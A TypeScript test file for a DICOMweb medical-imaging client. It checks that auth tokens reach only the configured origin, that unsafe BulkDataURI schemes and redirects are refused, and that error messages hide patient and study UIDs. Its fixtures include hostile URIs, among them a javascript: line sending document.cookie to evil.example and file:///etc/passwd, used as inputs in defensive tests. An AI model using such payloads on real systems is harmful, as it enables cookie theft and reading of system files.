// Credentials go only to the configured origin: two real HTTP servers on
// loopback (two ports, so two origins), the DICOMweb server and a foreign
// one that records every request it gets. URLs taken from data (BulkDataURIs)
// that lead elsewhere are refused before anything is sent.
import assert from 'node:assert/strict';
import { createServer, type IncomingHttpHeaders, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { inspect } from 'node:util';
import { after, before, beforeEach, describe, it } from 'node:test';
import { DicomWebError } from '../errors.js';
import { createDicomWebClient, type DicomWebClientOptions } from './client.js';

interface Seen {
  method: string;
  path: string;
  headers: IncomingHttpHeaders;
}

/** A loopback server that records what it gets and answers with `handle` (default: 404). */
function recordingServer(handle?: (req: IncomingMessage, res: ServerResponse) => void) {
  const seen: Seen[] = [];
  const server = createServer((req, res) => {
    seen.push({ method: req.method ?? '', path: req.url ?? '', headers: req.headers });
    if (handle) handle(req, res);
    else res.writeHead(404).end();
  });
  return {
    seen,
    origin: '',
    async start() {
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      this.origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    },
    stop() {
      server.closeAllConnections();
      server.close();
    },
  };
}

const bulk = (res: ServerResponse, text: string) => {
  res.writeHead(200, { 'Content-Type': 'multipart/related; type="application/octet-stream"; boundary=B' });
  res.end(`--B\r\nContent-Type: application/octet-stream\r\n\r\n${text}\r\n--B--\r\n`);
};

const foreign = recordingServer((req, res) => {
  if (req.method === 'OPTIONS') {
    // Permissive CORS on purpose: whatever reached here could have been read.
    res.writeHead(204, { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' }).end();
    return;
  }
  bulk(res, 'FOREIGN');
});
let redirectTo = '';
const pacs = recordingServer((req, res) => {
  if (req.url?.startsWith('/dicom-web/redirect')) {
    res.writeHead(302, { Location: `${redirectTo}/elsewhere` }).end();
    return;
  }
  bulk(res, 'PACS');
});

before(async () => {
  await pacs.start();
  await foreign.start();
  redirectTo = foreign.origin;
});
after(() => {
  pacs.stop();
  foreign.stop();
});
beforeEach(() => {
  pacs.seen.length = 0;
  foreign.seen.length = 0;
});

const TOKEN = 'Bearer secret-token';

function client(options: Partial<DicomWebClientOptions> = {}) {
  const asked: string[] = [];
  const c = createDicomWebClient({
    root: `${pacs.origin}/dicom-web`,
    getAuthorization: ({ url }) => {
      asked.push(url);
      return TOKEN;
    },
    retry: { retries: 0 },
    ...options,
  });
  return { client: c, asked };
}

const untrusted = (e: unknown) => e instanceof DicomWebError && e.code === 'untrusted-url' && e.status === 0;

describe('credentials only to the configured origin', () => {
  it('refuses a BulkDataURI on another origin: the foreign server receives nothing, no token is asked', async () => {
    const { client: c, asked } = client();
    await assert.rejects(c.retrieveBulkData(`${foreign.origin}/bulk/palette-red`), untrusted);
    assert.deepEqual(foreign.seen, []);
    assert.deepEqual(pacs.seen, []);
    assert.deepEqual(asked, [], 'getAuthorization is not asked for a refused URL');
  });

  for (const uri of [
    'javascript:alert(document.domain)',
    'JavaScript:fetch("//evil.example/"+document.cookie)',
    'data:application/octet-stream;base64,AAAA',
    'file:///etc/passwd',
    'blob:http://127.0.0.1/1234',
    'ftp://127.0.0.1/bulk',
    'ws://127.0.0.1/bulk',
    'about:blank',
  ]) {
    it(`refuses the scheme of ${uri.split(':')[0]}: URIs`, async () => {
      const { client: c, asked } = client();
      assert.throws(() => c.bulkDataUrl(uri), untrusted);
      await assert.rejects(c.retrieveBulkData(uri), (e: unknown) => {
        assert.ok(untrusted(e));
        assert.doesNotMatch((e as Error).message, /alert|passwd|cookie|1234|AAAA/);
        return true;
      });
      assert.deepEqual(asked, []);
      assert.deepEqual([...pacs.seen, ...foreign.seen], []);
    });
  }

  it('refuses user info in a BulkDataURI, even on the root origin', async () => {
    const { client: c } = client();
    await assert.rejects(c.retrieveBulkData(`${pacs.origin.replace('//', '//user:pw@')}/dicom-web/bulk/1`), untrusted);
    assert.deepEqual(pacs.seen, []);
  });

  it('keeps relative URIs under the root, whatever their leading slashes', async () => {
    const { client: c } = client();
    for (const uri of ['bulk/1', '/bulk/1', `//127.0.0.1:1/bulk/1`, '\\\\evil.example\\bulk']) {
      const url = new URL(c.bulkDataUrl(uri));
      assert.equal(url.origin, pacs.origin, uri);
    }
    assert.equal(new TextDecoder().decode(await c.retrieveBulkData('//evil.example/bulk/1')), 'PACS');
    assert.deepEqual(foreign.seen, []);
    assert.equal(pacs.seen[0]?.headers.authorization, TOKEN);
  });

  it('rebases a foreign absolute URI that names a DICOMweb resource onto the root (servers behind a proxy)', async () => {
    const { client: c } = client();
    const bytes = await c.retrieveBulkData(`${foreign.origin}/internal/dicom-web/studies/1.2/series/3.4/bulk/5`);
    assert.equal(new TextDecoder().decode(bytes), 'PACS');
    assert.deepEqual(foreign.seen, []);
    assert.equal(pacs.seen[0]?.path, '/dicom-web/studies/1.2/series/3.4/bulk/5');
    assert.equal(pacs.seen[0]?.headers.authorization, TOKEN);
  });

  it('follows a BulkDataURI to an origin the host allowed, with its credentials', async () => {
    const { client: c, asked } = client({ allowedOrigins: [foreign.origin] });
    const bytes = await c.retrieveBulkData(`${foreign.origin}/bulk/palette-red`);
    assert.equal(new TextDecoder().decode(bytes), 'FOREIGN');
    assert.equal(foreign.seen.length, 1);
    assert.equal(foreign.seen[0]?.headers.authorization, TOKEN);
    assert.deepEqual(asked, [`${foreign.origin}/bulk/palette-red`]);
  });

  it('allows an origin, not a path prefix: another port of the same host is refused', async () => {
    const { client: c } = client({ allowedOrigins: [`${foreign.origin}/some/path`] });
    const otherPort = foreign.origin.replace(/:\d+$/, ':1');
    await assert.rejects(c.retrieveBulkData(`${otherPort}/bulk/1`), untrusted);
    await assert.rejects(c.retrieveBulkData(`${foreign.origin.replace('http:', 'https:')}/bulk/1`), untrusted);
  });

  it('rejects an allow-list entry that is not an http(s) origin', () => {
    for (const entry of ['javascript:alert(1)', 'data:,x', 'example.org', '*'])
      assert.throws(() => createDicomWebClient({ root: pacs.origin, allowedOrigins: [entry] }), TypeError, entry);
  });

  it('refuses every request of the client outside the origins, not only bulk data', async () => {
    const { client: c } = client();
    await assert.rejects(
      c.retrieveWadoUri(`${foreign.origin}/wado`, {
        studyInstanceUid: '1',
        seriesInstanceUid: '2',
        sopInstanceUid: '3',
      }),
      untrusted,
    );
    assert.deepEqual(foreign.seen, []);
  });

  it('does not use an answer redirected to another origin, and the token does not follow the redirect', async () => {
    const { client: c } = client();
    await assert.rejects(c.retrieveBulkData('redirect/1'), untrusted);
    assert.equal(pacs.seen[0]?.headers.authorization, TOKEN);
    for (const request of foreign.seen)
      assert.equal(request.headers.authorization, undefined, 'no token at the foreign origin');
  });
});

describe('no identifiers in error messages', () => {
  const ref = {
    studyInstanceUid: '1.2.826.0.1.3680043.8.498.111',
    seriesInstanceUid: '1.2.826.0.1.3680043.8.498.222',
    sopInstanceUid: '1.2.826.0.1.3680043.8.498.333',
  };
  const uids = /1\.2\.826\.0\.1\.3680043\.8\.498/;

  it('replaces the UIDs of a frames URL by placeholders and keeps them as the subject', async () => {
    const server = recordingServer((_req, res) => res.writeHead(500).end());
    await server.start();
    try {
      const c = createDicomWebClient({ root: `${server.origin}/dicom-web` });
      const error = await c.retrieveFrames(ref, [7]).then(
        () => assert.fail('frames answered 500'),
        (e: unknown) => e,
      );
      assert.ok(error instanceof DicomWebError);
      assert.equal(
        error.url,
        `${server.origin}/dicom-web/studies/{study}/series/{series}/instances/{instance}/frames/{frames}`,
      );
      assert.doesNotMatch(error.message, uids);
      assert.match(error.message, /frames\/\{frames\} failed: HTTP 500/);
      assert.deepEqual(error.subject, { ...ref, frames: [7] });
      assert.doesNotMatch(JSON.stringify(error), uids, 'JSON.stringify');
      assert.doesNotMatch(inspect(error, { depth: 5 }), uids, 'util.inspect');
      assert.doesNotMatch(String(error.stack), uids, 'stack');
    } finally {
      server.stop();
    }
  });

  it('keeps the subject on errors thrown while reading an answer', async () => {
    const server = recordingServer((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'multipart/related; type="application/octet-stream"; boundary=B' });
      res.end('--B\r\n\r\n');
    });
    await server.start();
    try {
      const c = createDicomWebClient({ root: `${server.origin}/dicom-web` });
      await assert.rejects(c.retrieveFrames(ref, [2]), (e: unknown) => {
        assert.ok(e instanceof Error && 'subject' in e);
        assert.doesNotMatch(e.message, uids);
        assert.deepEqual((e as DicomWebError).subject, { ...ref, frames: [2] });
        return true;
      });
    } finally {
      server.stop();
    }
  });

  it('drops query values, series and study UIDs of QIDO and metadata URLs', async () => {
    const server = recordingServer((_req, res) => res.writeHead(503).end());
    await server.start();
    try {
      const c = createDicomWebClient({ root: `${server.origin}/dicom-web`, retry: { retries: 0 } });
      await assert.rejects(
        c.searchInstances({ StudyInstanceUID: ref.studyInstanceUid, SeriesInstanceUID: ref.seriesInstanceUid }),
        (e: unknown) => {
          assert.ok(e instanceof DicomWebError);
          assert.equal(e.url, `${server.origin}/dicom-web/studies/{study}/series/{series}/instances`);
          assert.doesNotMatch(e.message, uids);
          return true;
        },
      );
      await assert.rejects(
        c.searchSeries({ SeriesInstanceUID: ref.seriesInstanceUid, PatientID: 'MRN-77' }),
        (e: unknown) => {
          assert.ok(e instanceof DicomWebError);
          assert.doesNotMatch(e.message, /MRN-77|1\.2\.826/);
          return true;
        },
      );
      await assert.rejects(c.retrieveSeriesMetadata(ref.studyInstanceUid, ref.seriesInstanceUid), (e: unknown) => {
        assert.ok(e instanceof DicomWebError);
        assert.equal(e.url, `${server.origin}/dicom-web/studies/{study}/series/{series}/metadata`);
        assert.deepEqual(e.subject, {
          studyInstanceUid: ref.studyInstanceUid,
          seriesInstanceUid: ref.seriesInstanceUid,
        });
        return true;
      });
    } finally {
      server.stop();
    }
  });

  it('hides UID-shaped segments of any other URL (vendor bulk data paths) and user info', async () => {
    const { client: c } = client();
    const error = await c
      .retrieveBulkData(`${foreign.origin}/bulk/${ref.sopInstanceUid}/7FE00010`)
      .catch((e: unknown) => e);
    assert.ok(error instanceof DicomWebError);
    assert.equal(error.url, `${foreign.origin}/bulk/{uid}/7FE00010`);
    assert.doesNotMatch(error.message, uids);
  });
});
